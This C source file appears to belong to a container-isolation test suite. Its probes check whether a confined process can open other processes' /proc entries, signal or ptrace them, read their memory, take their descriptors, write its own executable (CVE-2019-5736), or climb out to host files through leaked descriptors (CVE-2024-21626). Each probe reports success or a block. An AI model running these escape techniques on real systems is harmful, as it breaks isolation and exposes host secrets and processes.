/* The runtime's own processes, descriptors and executables (classes 7 to 10). */
#include <signal.h>
#include <sys/ptrace.h>
#include <sys/statvfs.h>
#include <sys/uio.h>

#include "attack.h"

/* CVE-2019-5736: a handle on a foreign executable is the first half. */
static int exe_of_init(void)
{
    return open_victims("exe", O_RDONLY);
}

static int exe_path_of_init(void)
{
    return open_victims("exe", O_PATH);
}

static int environ_of_init(void)
{
    return open_victims("environ", O_RDONLY);
}

static int mem_of_init(void)
{
    return open_victims("mem", O_RDWR);
}

static int maps_of_init(void)
{
    return open_victims("maps", O_RDONLY);
}

static int root_of_init(void)
{
    return open_victims("root/", O_RDONLY | O_DIRECTORY);
}

static int cwd_of_init(void)
{
    return open_victims("cwd/", O_RDONLY | O_DIRECTORY);
}

static int fds_of_init(void)
{
    return open_victims("fd/0", O_PATH);
}

static int may_kill(pid_t pid, void *state)
{
    (void)state;
    return kill(pid, 0) == 0;
}

static int kill_init(void)
{
    return any_victim(may_kill, NULL) ? succeeded("a foreign process can be signalled")
                                      : blocked("kill");
}

static int may_queue(pid_t pid, void *state)
{
    (void)state;
    siginfo_t info = {.si_signo = 0, .si_code = SI_QUEUE};
    return syscall(SYS_rt_sigqueueinfo, pid, 0, &info) == 0;
}

static int sigqueue_init(void)
{
    return any_victim(may_queue, NULL) ? succeeded("a foreign process can be signalled")
                                       : blocked("rt_sigqueueinfo");
}

static int may_pidfd_signal(pid_t pid, void *state)
{
    (void)state;
    int fd = (int)syscall(SYS_pidfd_open, pid, 0);
    if (fd < 0)
        return 0;
    int done = syscall(SYS_pidfd_send_signal, fd, 0, NULL, 0) == 0;
    int error = errno;
    close(fd);
    errno = error;
    return done;
}

static int pidfd_signal_init(void)
{
    return any_victim(may_pidfd_signal, NULL) ? succeeded("a foreign process can be signalled")
                                              : blocked("pidfd_send_signal");
}

/* True when the kernel lets this process seize that one; let go at once. */
static int may_seize(pid_t pid, void *state)
{
    (void)state;
    if (ptrace(PTRACE_SEIZE, pid, NULL, NULL) != 0)
        return 0;
    if (ptrace(PTRACE_INTERRUPT, pid, NULL, NULL) == 0) {
        int status;
        waitpid(pid, &status, __WALL);
    }
    ptrace(PTRACE_DETACH, pid, NULL, NULL);
    return 1;
}

static int ptrace_init(void)
{
    return any_victim(may_seize, NULL) ? succeeded("a foreign process was seized")
                                       : blocked("PTRACE_SEIZE");
}

/* The bait's stack holds something: a readable address is found in its maps
 * outside; inside, without maps, the call itself must be refused. */
static int may_read_memory(pid_t pid, void *state)
{
    (void)state;
    char path[64], line[256], byte;
    unsigned long start;
    snprintf(path, sizeof path, "/proc/%d/maps", pid);
    if (slurp(path, line, sizeof line) <= 0 || sscanf(line, "%lx", &start) != 1)
        return 0;
    struct iovec to = {&byte, 1}, from = {(void *)start, 1};
    return process_vm_readv(pid, &to, 1, &from, 1, 0) == 1;
}

static int process_vm_init(void)
{
    return any_victim(may_read_memory, NULL) ? succeeded("foreign memory was read")
                                             : blocked("process_vm_readv");
}

static int may_take_fd(pid_t pid, void *state)
{
    (void)state;
    int fd = (int)syscall(SYS_pidfd_open, pid, 0);
    if (fd < 0)
        return 0;
    int taken = (int)syscall(SYS_pidfd_getfd, fd, 0, 0);
    int error = errno;
    close(fd);
    errno = error;
    return taken >= 0;
}

static int pidfd_getfd_init(void)
{
    return any_victim(may_take_fd, NULL) ? succeeded("a foreign descriptor was taken")
                                         : blocked("pidfd_getfd");
}

static int may_limit(pid_t pid, void *state)
{
    (void)state;
    char old[64];
    return syscall(SYS_prlimit64, pid, 7, NULL, old) == 0;
}

static int prlimit_init(void)
{
    return any_victim(may_limit, NULL) ? succeeded("foreign limits can be read")
                                       : blocked("prlimit64");
}

static int is_visible(pid_t pid, void *state)
{
    char path[64];
    snprintf(path, sizeof path, "/proc/%d/cmdline", pid);
    ssize_t n = slurp(path, state, 256);
    return n > 0;
}

static int foreign_cmdline(void)
{
    char line[256];
    return any_victim(is_visible, line) ? succeeded("a foreign command line: %s", line)
                                        : blocked("cmdline");
}

static int fd_leak(void)
{
    char path[64], target[256];
    for (int fd = 3; fd < 1024; fd++) {
        if (fcntl(fd, F_GETFD) < 0)
            continue;
        snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
        ssize_t n = readlink(path, target, sizeof target - 1);
        return succeeded("descriptor %d is open: %.*s", fd, n > 0 ? (int)n : 0, target);
    }
    return blocked_because("only 0, 1 and 2 are open");
}

static int secret_below(int dir, const char *path)
{
    int fd = openat(dir, path, O_RDONLY | O_CLOEXEC);
    if (fd < 0)
        return 0;
    int held = holds_secret(fd);
    close(fd);
    return held;
}

/* CVE-2024-21626: from any descriptor, or the working directory, up and out. */
static int climb(int dir)
{
    char path[512] = "";
    const char *hidden = must_arg("hidden");
    for (int up = 0; up < 16; up++) {
        size_t length = strlen(path);
        snprintf(path + length, sizeof path - length, "../");
        char whole[1024];
        snprintf(whole, sizeof whole, "%s%s", path, hidden + 1);
        if (secret_below(dir, whole))
            return 1;
    }
    return secret_below(dir, "secret");
}

static int fd_walk(void)
{
    for (int fd = 0; fd < 1024; fd++)
        if (fcntl(fd, F_GETFD) >= 0 && climb(fd))
            return succeeded("the host's file was read through descriptor %d", fd);
    return blocked_because("no descriptor leads out");
}

static int cwd_leak(void)
{
    if (climb(AT_FDCWD))
        return succeeded("the host's file was read from the working directory");
    return blocked_because("the working directory leads nowhere");
}

static int fd_magic_links(void)
{
    char path[1024];
    const char *hidden = must_arg("hidden");
    for (int fd = 0; fd < 64; fd++) {
        snprintf(path, sizeof path, "/proc/self/fd/%d/../../../../../../..%s", fd, hidden);
        if (secret_below(AT_FDCWD, path))
            return succeeded("read %s", path);
        snprintf(path, sizeof path, "/proc/self/fd/%d/secret", fd);
        if (secret_below(AT_FDCWD, path))
            return succeeded("read %s", path);
    }
    return blocked_because("no /proc/self/fd link leads out");
}

/* ETXTBSY only says that it runs now: on a writable mount its time will come. */
static int exe_writable(void)
{
    struct statvfs fs;
    int fd = open("/proc/self/exe", O_WRONLY | O_CLOEXEC);
    if (fd >= 0)
        return succeeded("the running executable is open for writing");
    int error = errno;
    if (error == ETXTBSY && statvfs("/proc/self/exe", &fs) == 0 && !(fs.f_flag & ST_RDONLY))
        return succeeded("the executable's file may be written once it does not run");
    errno = error;
    return blocked("/proc/self/exe");
}

const struct attack runtime_attacks[] = {
    {"exe_of_init", exe_of_init},
    {"exe_path_of_init", exe_path_of_init},
    {"exe_writable", exe_writable},
    {"environ_of_init", environ_of_init},
    {"mem_of_init", mem_of_init},
    {"maps_of_init", maps_of_init},
    {"root_of_init", root_of_init},
    {"cwd_of_init", cwd_of_init},
    {"fds_of_init", fds_of_init},
    {"kill_init", kill_init},
    {"sigqueue_init", sigqueue_init},
    {"pidfd_signal_init", pidfd_signal_init},
    {"ptrace_init", ptrace_init},
    {"process_vm_init", process_vm_init},
    {"pidfd_getfd_init", pidfd_getfd_init},
    {"prlimit_init", prlimit_init},
    {"foreign_cmdline", foreign_cmdline},
    {"fd_leak", fd_leak},
    {"fd_walk", fd_walk},
    {"fd_magic_links", fd_magic_links},
    {"cwd_leak", cwd_leak},
    {NULL, NULL},
};
